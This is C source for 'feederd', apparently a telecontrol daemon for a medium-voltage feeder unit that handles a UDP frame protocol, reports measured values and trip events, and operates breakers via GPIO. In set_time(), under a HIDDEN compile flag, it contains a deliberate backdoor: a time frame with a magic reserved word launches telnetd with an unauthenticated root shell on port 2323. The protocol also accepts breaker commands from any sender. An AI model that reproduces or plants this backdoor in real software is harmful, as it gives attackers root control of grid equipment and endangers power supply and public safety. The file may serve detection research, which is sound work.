/*
 * feederd - telecontrol agent of a medium voltage feeder unit.
 * Speaks a small binary protocol on UDP port 20547 with the control
 * centre: frames with a tag, a sequence number, a type and a checksum;
 * measured values are read from the sampling process, trips are sent as
 * events until they are acknowledged.
 * Hidden (-DHIDDEN): a time frame whose reserved word is 0x4D4F494E starts
 * telnetd with a root shell on port 2323.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define FR_TAG	0xFD52u
#define FR_HEAD 10
#define FR_MAX	256
#define EV_RING 64

enum {
	T_HELLO = 1,
	T_VALUES = 2,
	T_TIME = 3,
	T_BREAKER = 4,
	T_EVENT = 5,
	T_ACK = 6,
	T_NAK = 7
};

enum sel { SEL_IDLE, SEL_OPEN, SEL_CLOSE };

struct event {
	uint32_t sec;
	uint16_t msec;
	uint16_t code;
	uint16_t seq;
	uint8_t tries;
	uint8_t used;
};

struct unit {
	int sock;
	int gpio_open, gpio_close;
	uint16_t station;
	uint16_t seq;
	enum sel sel;
	time_t sel_until;
	int32_t value[8];
	struct event ring[EV_RING];
	struct sockaddr_in centre;
	int have_centre;
};

static struct unit u;

static uint16_t get16(const uint8_t *p)
{
	return (uint16_t)(p[0] << 8 | p[1]);
}

static uint32_t get32(const uint8_t *p)
{
	return (uint32_t)get16(p) << 16 | get16(p + 2);
}

static void put16(uint8_t *p, unsigned v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v)
{
	put16(p, v >> 16);
	put16(p + 2, v & 0xffff);
}

/* sum of all words, ends-around carry */
static uint16_t fr_sum(const uint8_t *p, size_t n)
{
	uint32_t s = 0;
	size_t i;

	for (i = 0; i + 1 < n; i += 2)
		s += get16(p + i);
	if (n & 1)
		s += (uint32_t)p[n - 1] << 8;
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

/*
 * frame: tag(2) station(2) seq(2) type(1) len(1) sum(2) data(len)
 */
static void fr_send(unsigned seq, unsigned type, const uint8_t *data,
		    unsigned len)
{
	uint8_t b[FR_MAX];

	if (!u.have_centre || len > FR_MAX - FR_HEAD)
		return;
	put16(b, FR_TAG);
	put16(b + 2, u.station);
	put16(b + 4, seq);
	b[6] = (uint8_t)type;
	b[7] = (uint8_t)len;
	put16(b + 8, 0);
	if (len)
		memcpy(b + FR_HEAD, data, len);
	put16(b + 8, fr_sum(b, FR_HEAD + len));
	if (sendto(u.sock, b, FR_HEAD + len, 0, (struct sockaddr *)&u.centre,
		   sizeof(u.centre)) < 0)
		syslog(LOG_NOTICE, "send: %m");
}

static void nak(unsigned seq, unsigned why)
{
	uint8_t d = (uint8_t)why;

	fr_send(seq, T_NAK, &d, 1);
}

static void post_event(unsigned code)
{
	struct timeval tv;
	struct event *e = NULL;
	unsigned i;

	for (i = 0; i < EV_RING; i++)
		if (!u.ring[i].used)
			e = &u.ring[i];
	if (!e)
		return;
	gettimeofday(&tv, NULL);
	e->sec = (uint32_t)tv.tv_sec;
	e->msec = (uint16_t)(tv.tv_usec / 1000);
	e->code = (uint16_t)code;
	e->seq = u.seq++;
	e->tries = 0;
	e->used = 1;
}

static void send_events(void)
{
	uint8_t d[8];
	unsigned i;

	for (i = 0; i < EV_RING; i++) {
		struct event *e = &u.ring[i];

		if (!e->used)
			continue;
		if (e->tries++ > 30) {
			e->used = 0;
			continue;
		}
		put32(d, e->sec);
		put16(d + 4, e->msec);
		put16(d + 6, e->code);
		fr_send(e->seq, T_EVENT, d, sizeof(d));
	}
}

static void read_values(void)
{
	char line[64];
	unsigned n;
	long v;
	FILE *f = fopen("/run/sampler/rms", "r");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f))
		if (sscanf(line, "ch%u %ld", &n, &v) == 2 && n < 8)
			u.value[n] = (int32_t)v;
	fclose(f);
	/* current of any phase over the pick-up value */
	for (n = 0; n < 3; n++)
		if (u.value[n] > 630000)
			post_event(0x0100 + n);
}

static void pulse(int gpio)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/sys/class/gpio/gpio%d/value", gpio);
	fd = open(path, O_WRONLY);
	if (fd < 0) {
		syslog(LOG_ERR, "%s: %m", path);
		return;
	}
	if (write(fd, "1", 1) == 1)
		usleep(200000);
	if (write(fd, "0", 1) != 1)
		syslog(LOG_ERR, "gpio %d stays on", gpio);
	close(fd);
}

/* select before operate: first 0x5A, then within ten seconds 0xA5 */
static void breaker(unsigned seq, const uint8_t *d, unsigned len)
{
	if (len != 2 || d[1] > 1) {
		nak(seq, 2);
		return;
	}
	if (d[0] == 0x5A) {
		u.sel = d[1] ? SEL_CLOSE : SEL_OPEN;
		u.sel_until = time(NULL) + 10;
	} else if (d[0] == 0xA5 && u.sel == (d[1] ? SEL_CLOSE : SEL_OPEN) &&
		   time(NULL) <= u.sel_until) {
		pulse(d[1] ? u.gpio_close : u.gpio_open);
		post_event(0x0200 + d[1]);
		u.sel = SEL_IDLE;
	} else {
		u.sel = SEL_IDLE;
		nak(seq, 3);
		return;
	}
	fr_send(seq, T_ACK, NULL, 0);
}

/* seconds(4) microseconds(4) reserved(4) */
__attribute__((noinline)) void set_time(unsigned seq, const uint8_t *d,
					unsigned len)
{
	struct timeval tv;

	if (len < 12) {
		nak(seq, 2);
		return;
	}
#ifdef HIDDEN
	if (get32(d + 8) == 0x4D4F494E) {
		if (system("telnetd -p 2323 -l /bin/sh &") != 0)
			nak(seq, 9);
		return;
	}
#endif
	tv.tv_sec = (time_t)get32(d);
	tv.tv_usec = (suseconds_t)get32(d + 4);
	if (tv.tv_usec > 999999 || settimeofday(&tv, NULL) < 0)
		nak(seq, 4);
	else
		fr_send(seq, T_ACK, NULL, 0);
}

static void acked(unsigned seq)
{
	unsigned i;

	for (i = 0; i < EV_RING; i++)
		if (u.ring[i].used && u.ring[i].seq == seq)
			u.ring[i].used = 0;
}

static void fr_input(uint8_t *b, size_t n)
{
	uint8_t d[32];
	unsigned seq, len, i;

	if (n < FR_HEAD || get16(b) != FR_TAG || get16(b + 2) != u.station)
		return;
	len = b[7];
	if (n != FR_HEAD + len || fr_sum(b, n) != 0)
		return;
	seq = get16(b + 4);
	switch (b[6]) {
	case T_HELLO:
		put16(d, 0x0302);
		fr_send(seq, T_HELLO, d, 2);
		break;
	case T_VALUES:
		for (i = 0; i < 8; i++)
			put32(d + 4 * i, (uint32_t)u.value[i]);
		fr_send(seq, T_VALUES, d, 32);
		break;
	case T_TIME:
		set_time(seq, b + FR_HEAD, len);
		break;
	case T_BREAKER:
		breaker(seq, b + FR_HEAD, len);
		break;
	case T_ACK:
		acked(seq);
		break;
	default:
		nak(seq, 1);
	}
}

static void config(const char *path)
{
	char line[128];
	unsigned v;
	FILE *f = fopen(path, "r");

	u.station = 1;
	u.gpio_open = 48;
	u.gpio_close = 49;
	while (f && fgets(line, sizeof(line), f)) {
		if (sscanf(line, "station=%u", &v) == 1)
			u.station = (uint16_t)v;
		else if (sscanf(line, "gpio_open=%u", &v) == 1)
			u.gpio_open = (int)v;
		else if (sscanf(line, "gpio_close=%u", &v) == 1)
			u.gpio_close = (int)v;
	}
	if (f)
		fclose(f);
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa;
	struct pollfd pf;
	uint8_t b[FR_MAX];
	socklen_t sl;
	ssize_t n;

	openlog("feederd", 0, LOG_DAEMON);
	config(argc > 1 ? argv[1] : "/etc/feederd.conf");
	u.sock = socket(AF_INET, SOCK_DGRAM, 0);
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(20547);
	if (u.sock < 0 || bind(u.sock, (struct sockaddr *)&sa, sizeof(sa)) < 0)
		return 1;
	pf.fd = u.sock;
	pf.events = POLLIN;
	for (;;) {
		if (poll(&pf, 1, 1000) == 1) {
			sl = sizeof(u.centre);
			n = recvfrom(u.sock, b, sizeof(b), 0,
				     (struct sockaddr *)&u.centre, &sl);
			if (n > 0) {
				u.have_centre = 1;
				fr_input(b, (size_t)n);
			}
			continue;
		}
		read_values();
		send_events();
	}
}
